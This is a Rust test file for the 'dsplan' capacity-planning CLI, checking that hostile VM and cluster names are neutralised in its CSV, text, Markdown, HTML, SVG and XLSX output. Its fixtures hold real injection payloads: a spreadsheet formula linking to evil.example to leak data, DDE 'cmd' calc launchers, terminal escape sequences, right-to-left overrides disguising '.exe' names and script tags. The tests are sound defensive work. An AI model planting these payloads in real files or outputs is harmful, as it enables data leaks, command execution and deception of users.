//! Hostile names from the input cannot attack what reads dsplan's output: a CSV cell that
//! starts like a formula (`=HYPERLINK(...)`) is written with a leading `'`, and control
//! characters (ESC, BEL, C1) and bidi overrides never reach a terminal or a Markdown
//! viewer raw, on stdout or stderr. Every fixture is written by the test.

// Runs the `dsplan` binary, which the `cli` feature builds.
#![cfg(feature = "cli")]

include!("support/command.rs");

/// One row of a made-up vInfo CSV: `(VM name, template, cluster)`; 2 vCPUs, 8,192 MiB,
/// 51,200 MiB in use, VM ID `vm-<row>`.
fn vinfo(rows: &[(&str, bool, &str)]) -> String {
    let q = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
    let mut csv = String::from(
        "\"VM\",\"Powerstate\",\"Template\",\"CPUs\",\"Memory\",\"Provisioned MiB\",\
         \"In Use MiB\",\"Path\",\"Datacenter\",\"Cluster\",\"Host\",\"VM ID\",\
         \"VI SDK Server\"\r\n",
    );
    for (i, (name, template, cluster)) in rows.iter().enumerate() {
        let cells = [
            q(name),
            q("poweredOn"),
            q(if *template { "True" } else { "False" }),
            q("2"),
            q("8192"),
            q("102400"),
            q("51200"),
            q(&format!("[ds] {name}/{name}.vmx")),
            q("DC1"),
            q(cluster),
            q("esx1"),
            q(&format!("vm-{i}")),
            q("vc1.example.test"),
        ];
        csv.push_str(&cells.join(","));
        csv.push_str("\r\n");
    }
    csv
}

/// `text` written to `name` in this test's own folder under the system temporary folder
/// (`test` tells the tests apart); returns the file's path.
fn fixture(test: &str, name: &str, text: &[u8]) -> String {
    let dir = std::env::temp_dir().join(format!("dsplan-safe-{}-{test}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    path.to_string_lossy().into_owned()
}

/// The cluster names of the formula-injection reproducer: each starts with a character a
/// spreadsheet reads as a formula.
const FORMULA_CLUSTERS: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?leak\",\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
];

/// The text columns of the plan CSV ([`dsplan::report::tables::PLAN_CSV_HEADER`]); every
/// other column is a figure dsplan writes itself: a number, never quoted.
const TEXT_COLUMNS: [&str; 6] = [
    "datastore",
    "pool",
    "service_level",
    "pool_cool_access",
    "region",
    "prices_effective",
];

#[test]
fn csv_cells_from_names_cannot_start_a_formula() {
    let rows: Vec<(&str, bool, &str)> = FORMULA_CLUSTERS
        .iter()
        .enumerate()
        .flat_map(|(i, c)| {
            let names = [
                ["v0-0", "v0-1"],
                ["v1-0", "v1-1"],
                ["v2-0", "v2-1"],
                ["v3-0", "v3-1"],
                ["v4-0", "v4-1"],
            ];
            names[i].map(|n| (n, false, *c))
        })
        .collect();
    let path = fixture("csvinj", "csvinj.csv", vinfo(&rows).as_bytes());
    let o = dsplan(&["plan", &path, "--per-cluster", "--format", "csv"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let mut r = csv::Reader::from_reader(o.stdout.as_slice());
    let header = r.headers().unwrap().clone();
    let col = |h: &str| header.iter().position(|x| x == h).unwrap();
    let (cluster, size) = (col("cluster"), col("size_gib"));
    let mut seen = std::collections::BTreeSet::new();
    for rec in r.records() {
        let rec = rec.unwrap();
        let c = &rec[cluster];
        // Every cluster cell is one of the hostile names with a leading `'` (the reader
        // trims a cell's surrounding blanks: the tab before `=1+1` is gone, its `=` starts
        // the name).
        assert!(
            FORMULA_CLUSTERS
                .iter()
                .any(|f| c == format!("'{}", f.trim())),
            "cluster cell {c:?}"
        );
        seen.insert(c.to_string());
        // No cell of the row starts a formula unquoted.
        for cell in rec.iter() {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r']),
                "{cell:?} in {rec:?}"
            );
        }
        // Figures stay numbers (no `'` before them): each figure column parses as one, and
        // the datastore size is positive.
        let figures = dsplan::report::tables::PLAN_CSV_HEADER
            .iter()
            .filter(|h| !TEXT_COLUMNS.contains(h));
        for h in figures {
            assert!(rec[col(h)].parse::<f64>().is_ok(), "{h}: {rec:?}");
        }
        assert!(rec[size].parse::<f64>().unwrap() > 0.0, "{rec:?}");
    }
    // One plan per hostile cluster (five clusters of two VMs each).
    assert_eq!(seen.len(), 5, "{seen:?}");
}

#[test]
fn estate_csv_cells_cannot_start_a_formula() {
    // The estate CSV (no --per-cluster; --design anf so every cluster has datastore rows)
    // names its AVS clusters after the input's (`avs-` first): no cell starts a formula,
    // but a number (a negative figure would start with `-` and stay a number).
    let rows = [
        ("a-0", false, "=1+1"),
        ("b-0", false, "@SUM(1+1)"),
        ("c-0", false, "Prod"),
    ];
    let path = fixture("estate-csv", "estate.csv", vinfo(&rows).as_bytes());
    let o = dsplan(&["plan", &path, "--design", "anf", "--format", "csv"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let mut r = csv::Reader::from_reader(o.stdout.as_slice());
    let mut n = 0;
    for rec in r.records() {
        for cell in rec.unwrap().iter() {
            let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(!formula || cell.parse::<f64>().is_ok(), "{cell:?}");
        }
        n += 1;
    }
    // One datastore row per cluster at least: three clusters.
    assert!(n >= 3, "{n} rows");
}

/// The terminal escape of the reproducers: ESC ] 0 ; PWNED BEL (retitle the terminal), then
/// ESC [ 2 J (clear it).
const PWNED: &str = "\u{1b}]0;PWNED\u{7}\u{1b}[2J";

/// Whether `bytes` hold a C0 or C1 control other than the line feed and tab, or a bidi
/// override or isolate (U+202A..U+202E, U+2066..U+2069): the first found, if any.
fn unsafe_char(bytes: &[u8]) -> Option<char> {
    String::from_utf8_lossy(bytes).chars().find(|&c| {
        (c.is_control() && c != '\n' && c != '\t')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    })
}

/// Runs dsplan with `args`; asserts it exits `code` and that neither stdout nor stderr
/// holds a control character ([`unsafe_char`]); returns stdout and stderr as text.
fn run_safe(args: &[&str], code: i32) -> (String, String) {
    let o = dsplan(args);
    assert_eq!(o.status.code(), Some(code), "{args:?}: {}", stderr(&o));
    assert_eq!(unsafe_char(&o.stdout), None, "stdout of {args:?}");
    assert_eq!(unsafe_char(&o.stderr), None, "stderr of {args:?}");
    (String::from_utf8_lossy(&o.stdout).into_owned(), stderr(&o))
}

#[test]
fn escape_sequences_in_vm_names_never_reach_the_terminal() {
    // One VM planned, a template named with the escape (excluded), and two VMs of that
    // name (a warning names it).
    let tmpl = format!("{PWNED}tmpl");
    let dup = format!("{PWNED}dup");
    let rows = [
        ("ok1", false, "Prod"),
        (tmpl.as_str(), true, "Prod"),
        (dup.as_str(), false, "Prod"),
        (dup.as_str(), false, "Prod"),
    ];
    let path = fixture("esc", "esc.csv", vinfo(&rows).as_bytes());
    let mut outputs = String::new();
    for args in [
        vec!["plan", &path],
        vec!["plan", &path, "--detail"],
        vec!["inventory", &path],
        vec!["plan", &path, "--format", "md"],
        vec!["plan", &path, "--per-cluster"],
        vec!["plan", &path, "--per-cluster", "--format", "md"],
    ] {
        let (out, err) = run_safe(&args, 0);
        outputs.push_str(&out);
        outputs.push_str(&err);
    }
    // The names are shown, escaped: `\u{1b}` for ESC, `\u{7}` for BEL.
    assert!(
        outputs.contains("\\u{1b}]0;PWNED\\u{7}\\u{1b}[2Jtmpl"),
        "{outputs}"
    );
    assert!(outputs.contains("\\u{1b}]0;PWNED\\u{7}\\u{1b}[2Jdup"));
}

#[test]
fn an_error_naming_a_vm_does_not_carry_its_escape_sequence() {
    // A VM name with a line break is refused with an error naming the row; the name in the
    // error is shown escaped.
    let name = format!("{PWNED}line\nbreak");
    let rows = [("ok", false, "Prod"), (name.as_str(), false, "Prod")];
    let path = fixture(
        "esc-linebreak",
        "esc-linebreak.csv",
        vinfo(&rows).as_bytes(),
    );
    let (_, err) = run_safe(&["plan", &path], 1);
    assert!(err.contains("row 3"), "{err}");
    assert!(err.contains("\\u{1b}]0;PWNED\\u{7}"), "{err}");
}

#[test]
fn zip_folder_names_are_escaped_in_the_inputs_line() {
    // Two folders of one zip, each with a vInfo tab: one named with ESC [ 31 m and BEL,
    // one with a script tag and a right-to-left override (U+202E).
    use std::io::Write as _;
    let folders = ["\u{1b}[31mvc1\u{7}", "<script>alert(1)</script>\u{202e}"];
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (i, folder) in folders.iter().enumerate() {
        let name = format!("vm{i}");
        let csv = vinfo(&[(name.as_str(), false, "Prod")]);
        zip.start_file(
            format!("{folder}/RVTools_tabvInfo.csv"),
            zip::write::SimpleFileOptions::default(),
        )
        .unwrap();
        zip.write_all(csv.as_bytes()).unwrap();
    }
    let bytes = zip.finish().unwrap().into_inner();
    let path = fixture("evil-folders", "evil-folders.zip", &bytes);
    let (out, _) = run_safe(&["inventory", &path], 0);
    assert!(out.contains("\\u{1b}[31mvc1\\u{7}"), "{out}");
    assert!(out.contains("</script>\\u{202e}"), "{out}");
}

/// Hostile names of VMs and clusters: C0 and C1 controls, bidi overrides and isolates,
/// markup, and a formula.
const HOSTILE: [&str; 8] = [
    "ansi\u{1b}[31mRED\u{1b}[0m\u{1b}]0;title\u{7}",
    "c1\u{9b}31m\u{85}next",
    "rlo\u{202e}gnp.exe",
    "iso\u{2066}x\u{2069}\u{2068}y",
    "del\u{7f}bs\u{8}",
    "<script>alert(\"vm\")</script>",
    "`code` *bold* _u_",
    "=cmd|' /C calc'!A0",
];

#[test]
fn hostile_names_are_escaped_in_every_per_cluster_format() {
    // Each hostile name is a VM, and the clusters are hostile names too.
    let rows: Vec<(&str, bool, &str)> = HOSTILE
        .iter()
        .enumerate()
        .map(|(i, n)| (*n, false, HOSTILE[i % 3]))
        .collect();
    let path = fixture("inj", "inj.csv", vinfo(&rows).as_bytes());
    let mut text = String::new();
    for format in ["text", "md", "csv", "html"] {
        let (out, _) = run_safe(&["plan", &path, "--per-cluster", "--format", format], 0);
        if format == "text" {
            text = out;
        }
    }
    // The Placement table shows the escaped names (in the plan of its cluster).
    assert!(
        text.contains("ansi\\u{1b}[31mRED\\u{1b}[0m\\u{1b}]0;title\\u{7}"),
        "{text}"
    );
    assert!(text.contains("c1\\u{9b}31m\\u{85}next"), "{text}");
    assert!(text.contains("del\\u{7f}bs\\u{8}"), "{text}");
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(48))]

    /// For any VM and cluster name, the per-cluster plan's text and Markdown and the
    /// inventory's text hold no C0 or C1 control but line feeds and tabs, and no bidi
    /// override.
    #[test]
    fn no_name_puts_a_control_character_in_the_text_report(
        name in "[a-z\\x00-\\x{9f}\\x{202a}-\\x{202e}\\x{2066}-\\x{2069}=<|*_\\\\ ]{1,12}",
        cluster in "[A-Z\\x00-\\x{1f}\\x{80}-\\x{9f}\\x{202e}\\x{2068} ]{1,6}",
    ) {
        use dsplan::report::{Format, render_cluster_plans, render_inventory};
        let csv = vinfo(&[(name.as_str(), false, cluster.as_str()), ("plain", false, "B")]);
        let inventory = match dsplan::ingest::read_inputs_bytes(&[("in.csv", csv.as_bytes())]) {
            Ok(inv) => inv,
            // A name holding a line break (or a quote the CSV cannot carry) is refused at
            // read; the CLI escapes the error (tested above).
            Err(_) => return Ok(()),
        };
        let text = render_inventory(&inventory, Format::Text).unwrap();
        proptest::prop_assert_eq!(unsafe_char(text.as_bytes()), None, "{}", text);
        let plans = dsplan::Planner::new().inventory(inventory).plan_per_cluster();
        if let Ok(plans) = plans {
            for format in [Format::Text, Format::Markdown] {
                let out = render_cluster_plans(&plans, format).unwrap();
                proptest::prop_assert_eq!(unsafe_char(out.as_bytes()), None, "{}", out);
            }
        }
    }
}

#[test]
fn chart_files_show_control_characters_escaped() {
    // Clusters named with ESC [ 31 m ... BEL and a right-to-left override: the SVG files
    // of `--charts` held them raw, which no XML parser reads.
    let red = "\u{1b}[31mRed\u{7}";
    let rlo = "rlo\u{202e}gpj";
    let rows = [("a1", false, red), ("a2", false, red), ("b1", false, rlo)];
    let path = fixture("charts", "charts.csv", vinfo(&rows).as_bytes());
    let dir = std::path::Path::new(&path).with_file_name("charts-out");
    let dir = dir.to_string_lossy().into_owned();
    for extra in [&["--design", "anf"][..], &["--per-cluster"][..]] {
        let mut args = vec!["plan", &path, "--charts", &dir];
        args.extend_from_slice(extra);
        run_safe(&args, 0);
        let mut seen = 0;
        for entry in std::fs::read_dir(&dir).unwrap() {
            let file = entry.unwrap().path();
            let svg = std::fs::read(&file).unwrap();
            assert_eq!(unsafe_char(&svg), None, "{}", file.display());
            seen += 1;
        }
        assert!(seen >= 2, "{extra:?}: {seen} charts");
    }
}

#[test]
fn the_workbook_shows_control_characters_escaped() {
    // A VM and a cluster named with a right-to-left override and ESC: the workbook kept
    // them raw (a cell reading reversed, `_x001B_` in its XML).
    use calamine::{Data, Reader};
    let rows = [
        ("rlo-\u{202e}gpj.exe", false, "\u{1b}[31mRed\u{7}"),
        ("plain", false, "\u{1b}[31mRed\u{7}"),
    ];
    let path = fixture("xlsx", "xlsx.csv", vinfo(&rows).as_bytes());
    let out = std::path::Path::new(&path).with_file_name("hostile.xlsx");
    let out = out.to_string_lossy().into_owned();
    run_safe(
        &[
            "plan", &path, "--design", "anf", "--format", "xlsx", "-o", &out,
        ],
        0,
    );
    let mut book: calamine::Xlsx<_> = calamine::open_workbook(&out).unwrap();
    let mut texts = String::new();
    for name in book.sheet_names() {
        let range = book.worksheet_range(&name).unwrap();
        for d in range.used_cells().map(|(_, _, d)| d) {
            if let Data::String(s) = d {
                texts.push_str(s);
                texts.push('\n');
            }
        }
    }
    assert_eq!(unsafe_char(texts.as_bytes()), None);
    // The names are there, escaped.
    assert!(texts.contains("rlo-\\u{202e}gpj.exe"), "{texts}");
    assert!(texts.contains("\\u{1b}[31mRed\\u{7}"));
}
